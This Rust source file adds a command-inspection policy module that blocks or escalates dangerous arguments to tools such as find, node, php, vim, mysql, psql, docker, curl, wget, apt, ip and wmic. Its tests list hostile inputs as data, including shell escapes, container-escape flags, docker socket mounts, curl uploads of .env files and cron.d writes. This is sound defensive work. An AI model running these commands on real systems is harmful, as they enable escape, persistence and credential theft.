@@ -0,0 +1,998 @@
+use serde::{Deserialize, Serialize};
+use std::path::Path;
+
+use crate::policy::{
+    find_flag, flag_matches, is_flag, is_within, path_candidates, path_candidates_in, program_name,
+};
+
+/// Host paths (besides `/` itself) a container must never get mounted
+const CRITICAL_MOUNTS: &[&str] = &[
+    "/etc",
+    "/root",
+    "/boot",
+    "/proc",
+    "/sys",
+    "/dev",
+    "/var/run/docker.sock",
+    "/run/docker.sock",
+];
+
+/// Global docker/podman options that take a value, given before the subcommand
+const CONTAINER_GLOBAL_OPTIONS: &[&str] = &[
+    "--context",
+    "-c",
+    "--host",
+    "-H",
+    "--config",
+    "--log-level",
+    "-l",
+    "--tlscacert",
+    "--tlscert",
+    "--tlskey",
+    "--connection",
+    "--url",
+    "--identity",
+    "--root",
+    "--runroot",
+    "--storage-driver",
+    "--cgroup-manager",
+];
+
+/// Global `ip` options that take a value, given before the object
+const IP_GLOBAL_OPTIONS: &[&str] = &[
+    "-n", "-netns", "-rc", "-rcvbuf", "-l", "-loops", "-f", "-family",
+];
+
+/// Characters `cmd /C` interprets even inside arguments
+const CMD_METACHARACTERS: &[char] = &['&', '|', '<', '>', '^', '%', '\n', '\r'];
+
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "lowercase")]
+pub enum FindingAction {
+    /// Refuse to run the command
+    Block,
+    /// Allow it, but only as a high risk command
+    Escalate,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct Finding {
+    pub action: FindingAction,
+    pub reason: String,
+}
+
+impl Finding {
+    fn block(reason: impl Into<String>) -> Self {
+        Self {
+            action: FindingAction::Block,
+            reason: reason.into(),
+        }
+    }
+
+    fn escalate(reason: impl Into<String>) -> Self {
+        Self {
+            action: FindingAction::Escalate,
+            reason: reason.into(),
+        }
+    }
+}
+
+/// Look for arguments that turn an allowed tool into a way of running arbitrary
+/// code or writing arbitrary files (`find -exec`, `node -e`, `docker run -v /:/host`, ...).
+///
+/// `system_paths` are the policy's system directories; downloads into them are refused,
+/// with relative targets resolved against `cwd`.
+pub fn inspect(
+    command: &str,
+    args: &[String],
+    system_paths: &[String],
+    cwd: Option<&Path>,
+) -> Vec<Finding> {
+    let mut findings = Vec::new();
+
+    // On Windows every command goes through `cmd /C`, which would interpret these
+    if cfg!(target_os = "windows") {
+        if let Some(arg) = args.iter().find(|a| a.contains(CMD_METACHARACTERS)) {
+            findings.push(Finding::block(format!(
+                "O argumento '{}' contém caracteres interpretados pelo cmd.exe",
+                arg
+            )));
+        }
+    }
+
+    match program_name(command) {
+        "find" => inspect_find(args, &mut findings),
+        "php" => inspect_php(args, &mut findings),
+        "node" => inspect_node(args, &mut findings),
+        "powershell" | "pwsh" => inspect_powershell(args, &mut findings),
+        "vim" | "vi" => inspect_vim(args, &mut findings),
+        "nano" => inspect_nano(args, &mut findings),
+        "mysql" | "mariadb" => inspect_mysql(args, &mut findings),
+        "psql" => inspect_psql(args, &mut findings),
+        "docker" | "podman" => inspect_container(args, &mut findings),
+        "curl" => inspect_curl(args, system_paths, cwd, &mut findings),
+        "wget" => inspect_wget(args, system_paths, cwd, &mut findings),
+        "apt" | "apt-get" => inspect_apt(args, &mut findings),
+        "ip" => inspect_ip(args, &mut findings),
+        "wmic" => inspect_wmic(args, &mut findings),
+        _ => {}
+    }
+
+    findings
+}
+
+fn flags(list: &[&str]) -> Vec<String> {
+    list.iter().map(|f| f.to_string()).collect()
+}
+
+/// Values given to an option, in `--opt value` or `--opt=value` form, or for a short
+/// option also attached (`-o/etc/passwd`) or inside a cluster (`-sSLo file`)
+fn option_values<'a>(args: &'a [String], names: &[&str]) -> Vec<&'a str> {
+    let mut values = Vec::new();
+    for (i, arg) in args.iter().enumerate() {
+        let next = args.get(i + 1).map(String::as_str);
+        for name in names {
+            if arg == name {
+                values.extend(next);
+            } else if let Some(value) = arg
+                .strip_prefix(name)
+                .and_then(|rest| rest.strip_prefix('='))
+            {
+                values.push(value);
+            } else if let Some(letter) = name
+                .strip_prefix('-')
+                .filter(|letter| !letter.starts_with('-'))
+                .and_then(|letter| letter.chars().next())
+            {
+                values.extend(cluster_value(arg, letter, next));
+            }
+        }
+    }
+    values
+}
+
+/// Value of the short option `letter` inside the cluster `arg`: whatever follows it in
+/// the cluster, or the next argument when it ends the cluster
+fn cluster_value<'a>(arg: &'a str, letter: char, next: Option<&'a str>) -> Option<&'a str> {
+    let cluster = arg.strip_prefix('-').filter(|c| !c.starts_with('-'))?;
+    for (i, c) in cluster.char_indices() {
+        if c == letter {
+            let rest = &cluster[i + c.len_utf8()..];
+            return if rest.is_empty() { next } else { Some(rest) };
+        }
+        if !c.is_ascii_alphabetic() {
+            return None;
+        }
+    }
+    None
+}
+
+fn positionals(args: &[String]) -> impl Iterator<Item = &String> {
+    args.iter().filter(|a| !is_flag(a))
+}
+
+fn inspect_find(args: &[String], findings: &mut Vec<Finding>) {
+    for arg in args {
+        match arg.as_str() {
+            "-exec" | "-execdir" | "-ok" | "-okdir" => findings.push(Finding::block(format!(
+                "'find {}' executa comandos arbitrários",
+                arg
+            ))),
+            "-delete" => findings.push(Finding::block("'find -delete' apaga arquivos")),
+            "-fprint" | "-fprint0" | "-fprintf" | "-fls" => findings.push(Finding::block(format!(
+                "'find {}' escreve em arquivos",
+                arg
+            ))),
+            _ => {}
+        }
+    }
+}
+
+fn inspect_php(args: &[String], findings: &mut Vec<Finding>) {
+    let code_flags = flags(&[
+        "-r",
+        "--run",
+        "-B",
+        "--process-begin",
+        "-R",
+        "--process-code",
+        "-F",
+        "--process-file",
+        "-E",
+        "--process-end",
+        "-a",
+        "--interactive",
+    ]);
+    if let Some(flag) = find_flag(args, &code_flags) {
+        findings.push(Finding::block(format!(
+            "'php {}' executa código arbitrário",
+            flag
+        )));
+    }
+    if let Some(flag) = find_flag(args, &flags(&["-d", "--define", "-c", "-S", "-t"])) {
+        findings.push(Finding::escalate(format!(
+            "'php {}' altera a configuração ou inicia um servidor",
+            flag
+        )));
+    }
+    if let Some(script) = positionals(args).next() {
+        findings.push(Finding::escalate(format!(
+            "'php {}' executa um script PHP",
+            script
+        )));
+    }
+}
+
+fn inspect_node(args: &[String], findings: &mut Vec<Finding>) {
+    let code_flags = flags(&[
+        "-e",
+        "--eval",
+        "-p",
+        "--print",
+        "-i",
+        "--interactive",
+        "-r",
+        "--require",
+        "--import",
+        "--loader",
+        "--experimental-loader",
+    ]);
+    if let Some(flag) = find_flag(args, &code_flags) {
+        findings.push(Finding::block(format!(
+            "'node {}' executa código arbitrário",
+            flag
+        )));
+    }
+    if let Some(flag) = find_flag(args, &flags(&["--inspect", "--inspect-brk"])) {
+        findings.push(Finding::escalate(format!(
+            "'node {}' abre um depurador remoto",
+            flag
+        )));
+    }
+    if let Some(script) = positionals(args).next() {
+        findings.push(Finding::escalate(format!(
+            "'node {}' executa um script JavaScript",
+            script
+        )));
+    }
+}
+
+fn inspect_powershell(args: &[String], findings: &mut Vec<Finding>) {
+    // PowerShell parameters are case-insensitive and may be abbreviated
+    let encoded = args.iter().any(|a| {
+        let a = a.to_lowercase();
+        (a.starts_with("-e") && "-encodedcommand".starts_with(a.as_str())) || a == "-enc"
+    });
+    if encoded {
+        findings.push(Finding::block(
+            "'powershell -EncodedCommand' oculta o código executado",
+        ));
+    }
+    findings.push(Finding::escalate(
+        "PowerShell pode executar código arbitrário",
+    ));
+}
+
+fn inspect_vim(args: &[String], findings: &mut Vec<Finding>) {
+    if let Some(flag) = find_flag(args, &flags(&["-c", "--cmd", "-S", "-s", "-u", "-U", "-W"])) {
+        findings.push(Finding::block(format!(
+            "'vim {}' executa comandos do editor",
+            flag
+        )));
+    }
+    // `+42` jumps to a line; `+:!sh`, `+/pat` or `+cmd` run editor commands
+    if let Some(arg) = args
+        .iter()
+        .find(|a| a.starts_with('+') && a.len() > 1 && !a[1..].chars().all(|c| c.is_ascii_digit()))
+    {
+        findings.push(Finding::block(format!(
+            "'vim {}' executa comandos do editor",
+            arg
+        )));
+    }
+    if !args.iter().any(|a| a == "-Z") {
+        findings.push(Finding::escalate(
+            "vim fora do modo restrito (-Z) permite executar comandos com :!",
+        ));
+    }
+}
+
+fn inspect_nano(args: &[String], findings: &mut Vec<Finding>) {
+    if let Some(flag) = find_flag(args, &flags(&["-s", "--speller", "-f", "--rcfile"])) {
+        findings.push(Finding::block(format!(
+            "'nano {}' executa um programa externo",
+            flag
+        )));
+    }
+    if !args.iter().any(|a| a == "-R" || a == "--restricted") {
+        findings.push(Finding::escalate(
+            "nano fora do modo restrito (-R) permite executar comandos",
+        ));
+    }
+}
+
+fn inspect_mysql(args: &[String], findings: &mut Vec<Finding>) {
+    for statement in option_values(args, &["-e", "--execute"]) {
+        let lower = statement.to_lowercase();
+        if statement.contains("\\!")
+            || lower.trim_start().starts_with("system ")
+            || lower.contains("; system ")
+        {
+            findings.push(Finding::block(
+                "O cliente mysql executaria um comando do shell",
+            ));
+        }
+        if lower.contains("into outfile")
+            || lower.contains("into dumpfile")
+            || lower.contains("load_file(")
+        {
+            findings.push(Finding::escalate(
+                "A consulta lê ou escreve arquivos no servidor",
+            ));
+        }
+    }
+    if let Some(flag) = find_flag(
+        args,
+        &flags(&[
+            "--pager",
+            "--plugin-dir",
+            "--default-auth",
+            "--init-command",
+        ]),
+    ) {
+        findings.push(Finding::block(format!(
+            "'{}' executa código externo no cliente",
+            flag
+        )));
+    }
+}
+
+fn inspect_psql(args: &[String], findings: &mut Vec<Finding>) {
+    for statement in option_values(args, &["-c", "--command"]) {
+        let lower = statement.to_lowercase();
+        if statement.contains("\\!")
+            || lower.contains(" program ")
+            || statement.contains("\\o |")
+            || statement.contains("\\g |")
+        {
+            findings.push(Finding::block(
+                "O cliente psql executaria um comando do shell",
+            ));
+        }
+    }
+    if let Some(flag) = find_flag(args, &flags(&["-f", "--file"])) {
+        findings.push(Finding::escalate(format!(
+            "'psql {}' executa um script SQL",
+            flag
+        )));
+    }
+}
+
+/// The subcommand and the word after it, skipping global options and their values
+fn container_subcommand(args: &[String]) -> Vec<&str> {
+    let mut words = Vec::new();
+    let mut rest = args.iter();
+    while let Some(arg) = rest.next() {
+        if CONTAINER_GLOBAL_OPTIONS.contains(&arg.as_str()) {
+            rest.next();
+        } else if !is_flag(arg) {
+            words.push(arg.as_str());
+            if words.len() == 2 {
+                break;
+            }
+        }
+    }
+    words
+}
+
+fn inspect_container(args: &[String], findings: &mut Vec<Finding>) {
+    let runs_container = match container_subcommand(args).as_slice() {
+        ["run" | "create", ..] => true,
+        ["container", sub] => *sub == "run" || *sub == "create",
+        _ => false,
+    };
+    if !runs_container {
+        return;
+    }
+
+    for volume in option_values(args, &["-v", "--volume"]) {
+        let host = volume.split(':').next().unwrap_or(volume);
+        check_mount(host, findings);
+    }
+    for mount in option_values(args, &["--mount"]) {
+        let source = mount
+            .split(',')
+            .filter_map(|part| part.split_once('='))
+            .find(|(key, _)| *key == "source" || *key == "src")
+            .map(|(_, value)| value);
+        if let Some(source) = source {
+            check_mount(source, findings);
+        }
+    }
+
+    if find_flag(args, &flags(&["--privileged"])).is_some() {
+        findings.push(Finding::block(
+            "'--privileged' dá ao container acesso total ao host",
+        ));
+    }
+    for value in option_values(args, &["--pid", "--ipc", "--userns", "--uts"]) {
+        if value == "host" {
+            findings.push(Finding::block(
+                "O container compartilharia namespaces do host",
+            ));
+        }
+    }
+    for value in option_values(args, &["--cap-add"]) {
+        if matches!(
+            value.to_uppercase().as_str(),
+            "ALL" | "SYS_ADMIN" | "SYS_PTRACE" | "SYS_MODULE"
+        ) {
+            findings.push(Finding::block(format!(
+                "'--cap-add {}' permite escapar do container",
+                value
+            )));
+        }
+    }
+    for value in option_values(args, &["--security-opt"]) {
+        if value.contains("unconfined") {
+            findings.push(Finding::block(
+                "'--security-opt' desativaria o isolamento do container",
+            ));
+        }
+    }
+    if find_flag(args, &flags(&["--device"])).is_some() {
+        findings.push(Finding::escalate(
+            "O container teria acesso a dispositivos do host",
+        ));
+    }
+}
+
+fn check_mount(host: &str, findings: &mut Vec<Finding>) {
+    // Named volumes are not host paths
+    let Some(path) = path_candidates(host).into_iter().next() else {
+        return;
+    };
+    if path == Path::new("/") || CRITICAL_MOUNTS.iter().any(|m| is_within(&path, m)) {
+        findings.push(Finding::block(format!(
+            "Montar '{}' do host dá ao container controle sobre o sistema",
+            host
+        )));
+    } else {
+        findings.push(Finding::escalate(format!(
+            "O container teria acesso a '{}' do host",
+            host
+        )));
+    }
+}
+
+fn check_download_target(
+    tool: &str,
+    target: &str,
+    system_paths: &[String],
+    cwd: Option<&Path>,
+    findings: &mut Vec<Finding>,
+) {
+    // `-` is standard output
+    if target == "-" {
+        return;
+    }
+    let inside_system = path_candidates_in(target, cwd)
+        .iter()
+        .any(|path| system_paths.iter().any(|p| is_within(path, p)));
+    if inside_system {
+        findings.push(Finding::block(format!(
+            "'{}' escreveria em '{}', um caminho do sistema",
+            tool, target
+        )));
+    }
+}
+
+fn inspect_curl(
+    args: &[String],
+    system_paths: &[String],
+    cwd: Option<&Path>,
+    findings: &mut Vec<Finding>,
+) {
+    for target in option_values(
+        args,
+        &[
+            "-o",
+            "--output",
+            "--output-dir",
+            "-c",
+            "--cookie-jar",
+            "--trace",
+            "--trace-ascii",
+            "--stderr",
+            "-D",
+            "--dump-header",
+        ],
+    ) {
+        check_download_target("curl", target, system_paths, cwd, findings);
+    }
+    if let Some(flag) = find_flag(args, &flags(&["-K", "--config"])) {
+        findings.push(Finding::escalate(format!(
+            "'curl {}' carrega opções de um arquivo",
+            flag
+        )));
+    }
+    let uploads = !option_values(args, &["-T", "--upload-file"]).is_empty()
+        || option_values(args, &["-d", "--data", "--data-binary", "-F", "--form"])
+            .iter()
+            .any(|v| v.starts_with('@') || v.contains("=@") || v.contains("=<"));
+    if uploads {
+        findings.push(Finding::escalate(
+            "curl enviaria um arquivo local para a rede",
+        ));
+    }
+    if args.iter().any(|a| a.to_lowercase().starts_with("file://")) {
+        findings.push(Finding::escalate("curl leria arquivos locais via file://"));
+    }
+}
+
+fn inspect_wget(
+    args: &[String],
+    system_paths: &[String],
+    cwd: Option<&Path>,
+    findings: &mut Vec<Finding>,
+) {
+    for target in option_values(
+        args,
+        &[
+            "-O",
+            "--output-document",
+            "-P",
+            "--directory-prefix",
+            "-o",
+            "--output-file",
+            "-a",
+            "--append-output",
+        ],
+    ) {
+        check_download_target("wget", target, system_paths, cwd, findings);
+    }
+    if let Some(flag) = find_flag(
+        args,
+        &flags(&["-e", "--execute", "--config", "--use-askpass"]),
+    ) {
+        findings.push(Finding::escalate(format!(
+            "'wget {}' executa comandos de configuração",
+            flag
+        )));
+    }
+    if let Some(flag) = find_flag(args, &flags(&["--post-file", "--body-file"])) {
+        findings.push(Finding::escalate(format!(
+            "'wget {}' enviaria um arquivo local para a rede",
+            flag
+        )));
+    }
+}
+
+fn inspect_apt(args: &[String], findings: &mut Vec<Finding>) {
+    for option in option_values(args, &["-o", "--option"]) {
+        // APT::Update::Pre-Invoke, DPkg::Post-Invoke, ... run shell commands as root
+        if option.to_lowercase().contains("invoke") {
+            findings.push(Finding::block(format!(
+                "A opção '{}' executaria um comando do shell",
+                option
+            )));
+        } else {
+            findings.push(Finding::escalate(format!(
+                "A opção '{}' altera a configuração do APT",
+                option
+            )));
+        }
+    }
+    if find_flag(args, &flags(&["-c", "--config-file"])).is_some() {
+        findings.push(Finding::escalate(
+            "Um arquivo de configuração alternativo do APT pode executar comandos",
+        ));
+    }
+}
+
+/// Whether `word` is an abbreviation `ip` accepts for `keyword`
+fn ip_matches(word: &str, keyword: &str, min_len: usize) -> bool {
+    word.len() >= min_len && keyword.starts_with(word)
+}
+
+fn inspect_ip(args: &[String], findings: &mut Vec<Finding>) {
+    // The object and its command; global options only come before the object
+    let mut words = Vec::new();
+    let mut rest = args.iter();
+    while let Some(arg) = rest.next() {
+        if !is_flag(arg) {
+            words.push(arg.as_str());
+            if words.len() == 2 {
+                break;
+            }
+        } else if words.is_empty() {
+            // `ip` reads `--batch` like `-batch`
+            let option = arg
+                .strip_prefix('-')
+                .filter(|o| o.starts_with('-'))
+                .unwrap_or(arg);
+            if ip_matches(option, "-batch", 2) {
+                findings.push(Finding::block(format!(
+                    "'ip {}' executa os comandos de um arquivo",
+                    arg
+                )));
+                rest.next();
+            } else if IP_GLOBAL_OPTIONS.contains(&option) {
+                rest.next();
+            }
+        }
+    }
+
+    // `ip netns exec <ns> <prog>` and `ip vrf exec <vrf> <prog>` run any program
+    if let [object, sub] = words[..] {
+        if (ip_matches(object, "netns", 3) || ip_matches(object, "vrf", 1))
+            && ip_matches(sub, "exec", 1)
+        {
+            findings.push(Finding::block(format!(
+                "'ip {} {}' executa um programa arbitrário",
+                object, sub
+            )));
+        }
+    }
+}
+
+fn inspect_wmic(args: &[String], findings: &mut Vec<Finding>) {
+    let lower: Vec<String> = args.iter().map(|a| a.to_lowercase()).collect();
+    if lower.windows(2).any(|w| w[0] == "call" && w[1] == "create") {
+        findings.push(Finding::block(
+            "'wmic ... call create' inicia processos arbitrários",
+        ));
+    }
+    if lower
+        .iter()
+        .any(|a| flag_matches(a, "/node") || a.starts_with("/node:"))
+    {
+        findings.push(Finding::escalate(
+            "wmic executaria comandos em outra máquina",
+        ));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn args(list: &[&str]) -> Vec<String> {
+        list.iter().map(|a| a.to_string()).collect()
+    }
+
+    fn system_paths() -> Vec<String> {
+        args(&["/etc", "/usr", "/var", "/root"])
+    }
+
+    fn check(command: &str, list: &[&str]) -> Vec<Finding> {
+        inspect(command, &args(list), &system_paths(), None)
+    }
+
+    fn blocked(command: &str, list: &[&str]) -> bool {
+        check(command, list)
+            .iter()
+            .any(|f| f.action == FindingAction::Block)
+    }
+
+    fn escalated(command: &str, list: &[&str]) -> bool {
+        check(command, list)
+            .iter()
+            .any(|f| f.action == FindingAction::Escalate)
+    }
+
+    #[test]
+    fn find_exec_is_blocked() {
+        assert!(blocked(
+            "find",
+            &["/", "-name", "x", "-exec", "sh", "-c", "id", ";"]
+        ));
+        assert!(blocked("find", &[".", "-execdir", "rm", "{}", "+"]));
+        assert!(blocked("find", &[".", "-ok", "rm", "{}", ";"]));
+    }
+
+    #[test]
+    fn find_delete_and_file_output_are_blocked() {
+        assert!(blocked("find", &["/tmp", "-delete"]));
+        assert!(blocked("find", &["/", "-fprintf", "/etc/cron.d/x", "%p"]));
+        assert!(check("find", &["/var/log", "-name", "*.log", "-mtime", "+7"]).is_empty());
+    }
+
+    #[test]
+    fn php_inline_code_is_blocked() {
+        assert!(blocked("php", &["-r", "system('id');"]));
+        assert!(blocked("php", &["-R", "echo 1;"]));
+        assert!(blocked("php", &["-a"]));
+        assert!(check("php", &["-v"]).is_empty());
+    }
+
+    #[test]
+    fn php_scripts_are_escalated() {
+        assert!(escalated("php", &["artisan", "migrate"]));
+        assert!(escalated(
+            "php",
+            &["-d", "auto_prepend_file=/tmp/x.php", "-v"]
+        ));
+    }
+
+    #[test]
+    fn node_eval_is_blocked() {
+        assert!(blocked(
+            "node",
+            &["-e", "require('child_process').execSync('id')"]
+        ));
+        assert!(blocked("node", &["--eval=1"]));
+        assert!(blocked("node", &["-p", "process.env"]));
+        assert!(blocked("node", &["-r", "./hook.js", "app.js"]));
+        assert!(check("node", &["--version"]).is_empty());
+    }
+
+    #[test]
+    fn node_scripts_are_escalated() {
+        assert!(escalated("node", &["server.js"]));
+    }
+
+    #[test]
+    fn powershell_is_always_escalated() {
+        assert!(escalated("powershell", &["-Command", "Get-Process"]));
+        assert!(!blocked("powershell", &["-Command", "Get-Process"]));
+    }
+
+    #[test]
+    fn powershell_encoded_command_is_blocked() {
+        assert!(blocked("powershell", &["-EncodedCommand", "SQBFAFgA"]));
+        assert!(blocked("powershell", &["-enc", "SQBFAFgA"]));
+        assert!(!blocked(
+            "powershell",
+            &["-ExecutionPolicy", "Bypass", "-Command", "ls"]
+        ));
+    }
+
+    #[test]
+    fn vim_command_arguments_are_blocked() {
+        assert!(blocked("vim", &["-c", ":!sh", "/etc/hosts"]));
+        assert!(blocked("vim", &["+:!sh", "/etc/hosts"]));
+        assert!(blocked("vi", &["--cmd", "!id"]));
+        assert!(blocked("vim", &["-S", "/tmp/evil.vim"]));
+        assert!(!blocked("vim", &["+42", "/etc/hosts"]));
+    }
+
+    #[test]
+    fn vim_outside_restricted_mode_is_escalated() {
+        assert!(escalated("vim", &["/etc/hosts"]));
+        assert!(check("vim", &["-Z", "/etc/hosts"]).is_empty());
+    }
+
+    #[test]
+    fn nano_speller_is_blocked() {
+        assert!(blocked("nano", &["-s", "/bin/sh", "x"]));
+        assert!(blocked("nano", &["--speller=/bin/sh", "x"]));
+    }
+
+    #[test]
+    fn nano_outside_restricted_mode_is_escalated() {
+        assert!(escalated("nano", &["/etc/hosts"]));
+        assert!(check("nano", &["-R", "/etc/hosts"]).is_empty());
+    }
+
+    #[test]
+    fn mysql_shell_escape_is_blocked() {
+        assert!(blocked("mysql", &["-e", "\\! sh"]));
+        assert!(blocked("mariadb", &["--execute=system id"]));
+        assert!(blocked("mysql", &["--pager=sh -c id"]));
+        assert!(!blocked("mysql", &["-e", "SHOW DATABASES"]));
+    }
+
+    #[test]
+    fn mysql_clustered_execute_is_inspected() {
+        assert!(blocked("mysql", &["-Be", "\\! sh"]));
+        assert!(blocked("mysql", &["-se", "system id"]));
+        assert!(blocked("mysql", &["-Bse\\! sh"]));
+        assert!(!blocked("mysql", &["-Bse", "SHOW DATABASES"]));
+    }
+
+    #[test]
+    fn mysql_file_access_is_escalated() {
+        assert!(escalated(
+            "mysql",
+            &["-e", "SELECT * FROM t INTO OUTFILE '/tmp/x'"]
+        ));
+    }
+
+    #[test]
+    fn psql_shell_escape_is_blocked() {
+        assert!(blocked("psql", &["-c", "\\! id"]));
+        assert!(blocked("psql", &["-c", "COPY t FROM PROGRAM 'id'"]));
+        assert!(!blocked("psql", &["-c", "SELECT 1"]));
+    }
+
+    #[test]
+    fn psql_clustered_command_is_inspected() {
+        assert!(blocked("psql", &["-Xc", "\\! id"]));
+        assert!(blocked("psql", &["-qXc", "COPY t FROM PROGRAM 'id'"]));
+        assert!(!blocked("psql", &["-Xc", "SELECT 1"]));
+    }
+
+    #[test]
+    fn docker_root_mount_is_blocked() {
+        assert!(blocked("docker", &["run", "-v", "/:/host", "alpine"]));
+        assert!(blocked("docker", &["run", "--volume=/etc:/mnt", "alpine"]));
+        assert!(blocked(
+            "podman",
+            &["run", "-v", "/var/run/docker.sock:/sock", "alpine"]
+        ));
+        assert!(blocked(
+            "docker",
+            &[
+                "run",
+                "--mount",
+                "type=bind,source=/,target=/host",
+                "alpine"
+            ]
+        ));
+    }
+
+    #[test]
+    fn docker_other_host_mounts_are_escalated() {
+        assert!(escalated(
+            "docker",
+            &["run", "-v", "/home/user/app:/app", "node"]
+        ));
+        assert!(check("docker", &["run", "-v", "data:/var/lib/mysql", "mysql"]).is_empty());
+    }
+
+    #[test]
+    fn docker_privileged_containers_are_blocked() {
+        assert!(blocked("docker", &["run", "--privileged", "alpine"]));
+        assert!(blocked("docker", &["run", "--pid=host", "alpine"]));
+        assert!(blocked(
+            "docker",
+            &["run", "--cap-add", "SYS_ADMIN", "alpine"]
+        ));
+        assert!(blocked(
+            "docker",
+            &["run", "--security-opt", "seccomp=unconfined", "alpine"]
+        ));
+        assert!(check("docker", &["ps", "-a"]).is_empty());
+    }
+
+    #[test]
+    fn docker_global_options_do_not_hide_the_subcommand() {
+        assert!(blocked(
+            "docker",
+            &[
+                "--context",
+                "x",
+                "container",
+                "run",
+                "--privileged",
+                "alpine"
+            ]
+        ));
+        assert!(blocked(
+            "docker",
+            &["-H", "unix:///tmp/d.sock", "run", "-v", "/:/host", "alpine"]
+        ));
+        assert!(blocked(
+            "podman",
+            &["--root", "/tmp/r", "create", "--pid=host", "alpine"]
+        ));
+        assert!(blocked("docker", &["run", "-dv", "/:/host", "alpine"]));
+        assert!(check("docker", &["--context", "x", "container", "ls"]).is_empty());
+    }
+
+    #[test]
+    fn curl_output_to_system_paths_is_blocked() {
+        assert!(blocked(
+            "curl",
+            &["https://x.test/a", "-o", "/etc/cron.d/job"]
+        ));
+        assert!(blocked(
+            "curl",
+            &["--output=/usr/local/bin/x", "https://x.test/a"]
+        ));
+        assert!(blocked("curl", &["-o/etc/passwd", "https://x.test/a"]));
+        assert!(!blocked("curl", &["-o", "/tmp/a", "https://x.test/a"]));
+    }
+
+    #[test]
+    fn curl_clustered_output_is_inspected() {
+        assert!(blocked(
+            "curl",
+            &["-sSLo", "/etc/cron.d/x", "https://x.test/a"]
+        ));
+        assert!(blocked("curl", &["-sSLo/etc/cron.d/x", "https://x.test/a"]));
+        assert!(!blocked("curl", &["-sSLo", "/tmp/a", "https://x.test/a"]));
+        assert!(check("curl", &["-sSL", "https://x.test/a"]).is_empty());
+    }
+
+    #[test]
+    fn curl_uploads_of_local_files_are_escalated() {
+        assert!(escalated(
+            "curl",
+            &["-d", "@/home/user/.env", "https://x.test"]
+        ));
+        assert!(escalated("curl", &["file:///etc/passwd"]));
+        assert!(check("curl", &["-I", "https://x.test"]).is_empty());
+    }
+
+    #[test]
+    fn wget_output_to_system_paths_is_blocked() {
+        assert!(blocked(
+            "wget",
+            &["-O", "/etc/apt/sources.list", "https://x.test"]
+        ));
+        assert!(blocked(
+            "wget",
+            &["--directory-prefix=/usr/bin", "https://x.test"]
+        ));
+        assert!(escalated(
+            "wget",
+            &["-e", "use_proxy=yes", "https://x.test"]
+        ));
+    }
+
+    #[test]
+    fn relative_download_targets_resolve_against_the_cwd() {
+        let in_etc = |command: &str, list: &[&str]| {
+            inspect(
+                command,
+                &args(list),
+                &system_paths(),
+                Some(Path::new("/etc")),
+            )
+            .iter()
+            .any(|f| f.action == FindingAction::Block)
+        };
+        assert!(in_etc("curl", &["-o", "cron.d/job", "https://x.test/a"]));
+        assert!(in_etc("curl", &["-sSLocron.d/job", "https://x.test/a"]));
+        assert!(in_etc("wget", &["-O", "cron.d/job", "https://x.test"]));
+        assert!(in_etc("wget", &["-P", ".", "https://x.test"]));
+        assert!(in_etc("wget", &["-P", "../tmp/../etc", "https://x.test"]));
+        assert!(!in_etc("curl", &["-o", "../tmp/a", "https://x.test/a"]));
+        assert!(!in_etc("curl", &["-o", "-", "https://x.test/a"]));
+    }
+
+    #[test]
+    fn apt_invoke_hooks_are_blocked() {
+        assert!(blocked(
+            "apt-get",
+            &["update", "-o", "APT::Update::Pre-Invoke::=sh -c id"]
+        ));
+        assert!(blocked(
+            "apt",
+            &["install", "x", "--option=DPkg::Post-Invoke::=id"]
+        ));
+        assert!(escalated(
+            "apt",
+            &["install", "-o", "Acquire::Retries=3", "x"]
+        ));
+    }
+
+    #[test]
+    fn wmic_process_creation_is_blocked() {
+        assert!(blocked("wmic", &["process", "call", "create", "calc.exe"]));
+        assert!(check("wmic", &["os", "get", "caption"]).is_empty());
+    }
+
+    #[test]
+    fn ip_running_programs_is_blocked() {
+        assert!(blocked("ip", &["netns", "exec", "ns1", "sh"]));
+        assert!(blocked("ip", &["-all", "netns", "exec", "id"]));
+        assert!(blocked("ip", &["net", "e", "ns1", "sh"]));
+        assert!(blocked("ip", &["vrf", "exec", "blue", "sh"]));
+        assert!(blocked("ip", &["-n", "ns1", "vrf", "exec", "blue", "sh"]));
+        assert!(check("ip", &["netns", "list"]).is_empty());
+        // A namespace called `exec`
+        assert!(check("ip", &["-n", "exec", "addr"]).is_empty());
+    }
+
+    #[test]
+    fn ip_batch_files_are_blocked() {
+        assert!(blocked("ip", &["-batch", "/tmp/cmds"]));
+        assert!(blocked("ip", &["-b", "/tmp/cmds"]));
+        assert!(blocked("ip", &["--batch", "-"]));
+        assert!(check("ip", &["-br", "addr"]).is_empty());
+        assert!(check("ip", &["-s", "-d", "link", "show"]).is_empty());
+    }
+}